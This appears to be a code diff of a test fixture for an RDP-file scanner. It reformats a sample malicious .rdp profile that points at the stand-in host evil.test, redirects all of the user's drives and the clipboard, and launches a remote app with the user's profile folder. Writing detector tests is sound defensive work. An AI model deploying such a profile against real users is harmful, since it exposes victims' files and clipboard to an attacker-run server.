@@ -6,7 +6,8 @@ from files.scanners.made import ask, signs, urls
 from unhook.files.scanners.rdp import SCANNER
 
 PROFILE = (
-    "full address:s:evil.test:3389\r\ndrivestoredirect:s:*\r\nredirectclipboard:i:1\r\nredirectprinters:i:0\r\n"
+    "full address:s:evil.test:3389\r\ndrivestoredirect:s:*\r\n"
+    "redirectclipboard:i:1\r\nredirectprinters:i:0\r\n"
     "remoteapplicationmode:i:1\r\nremoteapplicationprogram:s:||Check\r\nremoteapplicationcmdline:s:%USERPROFILE%\r\n"
 )
 
